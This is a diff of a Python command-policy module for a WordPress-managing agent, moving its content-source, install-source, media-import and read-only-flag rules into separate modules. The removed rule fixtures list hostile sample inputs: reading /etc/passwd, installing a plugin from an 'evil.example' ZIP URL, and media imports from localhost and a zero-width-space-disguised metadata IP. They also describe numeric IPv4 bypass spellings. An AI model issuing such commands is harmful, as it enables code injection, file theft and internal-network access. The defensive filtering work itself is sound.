@@ -6,11 +6,7 @@ accent-folded), so a disguised spelling cannot slip past a rule that the real wr
 
 from __future__ import annotations
 
-import ipaddress
 import re
-import socket
-from dataclasses import dataclass
-from urllib.parse import urlsplit
 
 from wp_agent.policy.account_rules import (
     account_fields,
@@ -22,7 +18,14 @@ from wp_agent.policy.categories import PolicyCategory
 from wp_agent.policy.identifiers import non_plain_identifier
 from wp_agent.policy.masking import folded, is_secret_option
 from wp_agent.policy.parsed_command import ParsedCommand
-from wp_agent.policy.rule import ArgumentRule, Verdict, argument_rule, written_option
+from wp_agent.policy.read_only_flags import ReadOnlyFlag, read_only_flag
+from wp_agent.policy.rule import ID_RANGE, ArgumentRule, Verdict, argument_rule, written_option
+from wp_agent.policy.source_rules import (
+    MEDIA_PRIVATE_HOST_RULE,
+    install_source,
+    media_source,
+    post_content_sources,
+)
 
 __all__ = [
     "ARGUMENT_RULES",
@@ -109,13 +112,8 @@ SEARCH_REPLACE_OPTIONS = frozenset(
     }
 )
 TRASHING_POST_STATUSES = frozenset({"trash", "auto-draft", "inherit"})  # auto-drafts are purged by cron
-_SLUG = re.compile(r"^[a-z0-9][a-z0-9_\-]*$")
-_DIGITS = re.compile(r"^\d+$")
-_ID_RANGE = re.compile(r"^(\d+-\d*|-\d+)$")  # WP-CLI expands 15-35, 34-, -35 to every existing ID
 _TABLE = re.compile(r"^[A-Za-z0-9_$]+$")
 _PLAIN_KEY = re.compile(r"^[A-Za-z0-9_\-]+$")
-_WEB_PORTS = frozenset({80, 443, 8080, 8443})
-MEDIA_PRIVATE_HOST_RULE = "blocked.media_private_host"
 _SECRET_SEARCH_WORDS = ("pass", "secret", "token", "key", "salt", "auth", "credential")
 
 
@@ -284,40 +282,13 @@ def _bulk_flags(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
             "確認や安全装置を省略して実行します（--force）。承認が必要です",
             "--force",
         )
-    ranges = [a for a in cmd.args_after(path) if _ID_RANGE.match(a)]
+    ranges = [a for a in cmd.args_after(path) if ID_RANGE.match(a)]
     if ranges:
         return Verdict(
             D,
             "confirm.id_range",
             f"ID範囲（{ranges[0]}）に含まれる全ての対象に実行します。承認が必要です",
             ranges[0],
-        )
-    return None
-
-
-@argument_rule(
-    match=("post create /etc/passwd --post_title=x", "post update 5 -", "post create --edit"),
-    not_match=("post create --post_title=x --post_content=y", "post update 5 7 --post_status=draft"),
-)
-def _post_content_sources(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
-    if path not in {("post", "create"), ("post", "update")}:
-        return None
-    if cmd.has_flag("edit"):
-        return Verdict(
-            B,
-            "blocked.interactive_editor",
-            "エディタを起動するオプション（--edit）は使用できません",
-            "--edit",
-        )
-    args = cmd.args_after(path)
-    ids = (_DIGITS, _ID_RANGE)
-    files = args if path == ("post", "create") else [a for a in args if not any(p.match(a) for p in ids)]
-    if files:
-        return Verdict(
-            B,
-            "blocked.file_argument",
-            "サーバー上のファイルや標準入力から本文を読み込む指定はできません。--post_content で本文を指定してください",
-            files[0],
         )
     return None
 
@@ -346,36 +317,6 @@ def _hiding_statuses(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | Non
                     "コメントをゴミ箱またはスパムへ移動します。承認が必要です",
                     f"--comment_approved={value}",
                 )
-    return None
-
-
-@argument_rule(
-    match=(
-        "plugin install https://evil.example/x.zip",
-        "theme install ./t.zip",
-        "plugin install akismet --insecure",
-    ),
-    not_match=("plugin install akismet", "theme install twentytwentythree --activate"),
-)
-def _install_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
-    if path not in {("plugin", "install"), ("theme", "install")}:
-        return None
-    kind = "プラグイン" if path[0] == "plugin" else "テーマ"
-    if cmd.has_flag("insecure"):
-        return Verdict(
-            B,
-            "blocked.insecure_download",
-            "TLS検証を無効にするオプション（--insecure）は使用できません",
-            "--insecure",
-        )
-    for source in cmd.args_after(path):
-        if not _SLUG.match(source):
-            return Verdict(
-                B,
-                "blocked.install_source",
-                f"{kind}は公式ディレクトリのスラッグでのみインストールできます（URLやZIPファイルは不可）: {source}",
-                source,
-            )
     return None
 
 
@@ -508,95 +449,6 @@ def _placement_and_hooks(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict |
     )
 
 
-def _numeric_ipv4(host: str) -> ipaddress.IPv4Address | None:
-    """Hosts such as 127.1, 0x7f.1 or 0177.0.0.1 that inet_aton (and so curl) read as IPv4."""
-    if not re.fullmatch(r"[0-9a-fA-Fx.]+", host) or not any(c.isdigit() for c in host):
-        return None
-    try:
-        return ipaddress.IPv4Address(socket.inet_aton(host))
-    except OSError:
-        return None
-
-
-def _is_public_host(host: str) -> bool:
-    lowered = host.lower().rstrip(".")
-    if lowered in {"localhost", "metadata.google.internal"} or lowered.endswith(
-        (".localhost", ".internal", ".local")
-    ):
-        return False
-    numeric = _numeric_ipv4(lowered)
-    if numeric is not None:
-        return numeric.is_global
-    try:
-        address = ipaddress.ip_address(lowered.strip("[]"))
-    except ValueError:
-        return "." in lowered  # a DNS name; single-label names usually point inside the network
-    mapped = getattr(address, "ipv4_mapped", None)
-    return bool((mapped or address).is_global)
-
-
-@argument_rule(
-    match=(
-        "media import /etc/passwd",
-        "media import http://127.0.0.1/x.png",
-        "media import 'http://\u200b169.254.169.254/x.png'",
-        "media regenerate --yes",
-    ),
-    not_match=("media import https://example.com/x.png", "media regenerate 7 --yes"),
-)
-def _media_source(cmd: ParsedCommand, path: tuple[str, ...]) -> Verdict | None:
-    if path == ("media", "regenerate") and not [a for a in cmd.args_after(path) if _DIGITS.match(a)]:
-        return Verdict(
-            B,
-            "blocked.heavy_operation",
-            "全画像の再生成は負荷が高いため実行できません。対象の画像IDを指定してください",
-            "media regenerate",
-        )
-    if path != ("media", "import"):
-        return None
-    if cmd.option_values("destination-dir") or cmd.has_flag("destination-dir"):
-        return Verdict(
-            B,
-            "blocked.media_destination",
-            "保存先ディレクトリの指定（--destination-dir）はできません",
-            "--destination-dir",
-        )
-    # The literal checks here answer early; SafeDownloader checks every resolved address and
-    # redirect when the agent downloads the file (WordPress itself never fetches it).
-    refused: list[str] = []
-    for source in cmd.args_after(path):
-        parts = urlsplit(source)
-        if parts.scheme not in {"http", "https"} or not parts.hostname:
-            return Verdict(
-                B,
-                "blocked.media_source",
-                f"メディアは http(s) のURLからのみ取り込めます（サーバー上のファイルは不可）: {source}",
-                source,
-            )
-        if not parts.hostname.isascii():
-            # IDNA drops invisible characters: http://<U+200B>169.254.169.254/ is the metadata host.
-            return Verdict(
-                B,
-                "blocked.media_source",
-                f"URLのホスト名は半角で指定してください（国際化ドメインは xn-- の形式）: {ascii(parts.hostname)[1:-1]}",
-                source,
-            )
-        try:
-            port = parts.port or (443 if parts.scheme == "https" else 80)
-        except ValueError:
-            port = -1
-        if not _is_public_host(parts.hostname) or port not in _WEB_PORTS:
-            refused.append(f"{parts.hostname}:{port}")
-    if not refused:
-        return None
-    return Verdict(
-        B,
-        MEDIA_PRIVATE_HOST_RULE,
-        f"内部ネットワークのアドレスや特殊なポートからは取り込めません: {', '.join(refused)}",
-        ",".join(refused),  # every refused host:port (an explicit test setting may allow them)
-    )
-
-
 # Order matters only for which reason is reported first among equal categories.
 ARGUMENT_RULES: tuple[ArgumentRule, ...] = (
     non_plain_identifier,
@@ -607,9 +459,9 @@ ARGUMENT_RULES: tuple[ArgumentRule, ...] = (
     account_fields,
     role_definitions,
     _secret_option_read,
-    _post_content_sources,
-    _install_source,
-    _media_source,
+    post_content_sources,
+    install_source,
+    media_source,
     _important_option,
     account_grants,
     _activation,
@@ -618,35 +470,3 @@ ARGUMENT_RULES: tuple[ArgumentRule, ...] = (
     _hiding_statuses,
     _bulk_flags,
 )
-
-
-@dataclass(frozen=True)
-class ReadOnlyFlag:
-    """A flag that makes a writing command only read: given bare and once (not `=0`, not `--no-…`)."""
-
-    flag: str
-    reason_ja: str
-
-
-# search-replace --dry-run only reports. Listing plugins or themes runs WordPress's update check,
-# which stores what it fetched (a site transient), unless --skip-update-check.
-_READ_ONLY_FLAGS: dict[tuple[str, ...], ReadOnlyFlag] = {
-    ("search-replace",): ReadOnlyFlag("dry-run", "置換の試行（--dry-run）は変更を行わないため実行できます"),
-    ("plugin", "list"): ReadOnlyFlag(
-        "skip-update-check", "更新確認を省略した一覧（--skip-update-check）は変更を行わないため実行できます"
-    ),
-    ("theme", "list"): ReadOnlyFlag(
-        "skip-update-check", "更新確認を省略した一覧（--skip-update-check）は変更を行わないため実行できます"
-    ),
-}
-
-
-def read_only_flag(cmd: ParsedCommand, path: tuple[str, ...]) -> ReadOnlyFlag | None:
-    """The flag that makes this command a read, when it is given as it must be."""
-    read_only = _READ_ONLY_FLAGS.get(path)
-    if read_only is None:
-        return None
-    given = [o for o in cmd.options if o.name in {read_only.flag, f"no-{read_only.flag}"}]
-    if len(given) == 1 and given[0].name == read_only.flag and given[0].value is None:
-        return read_only
-    return None
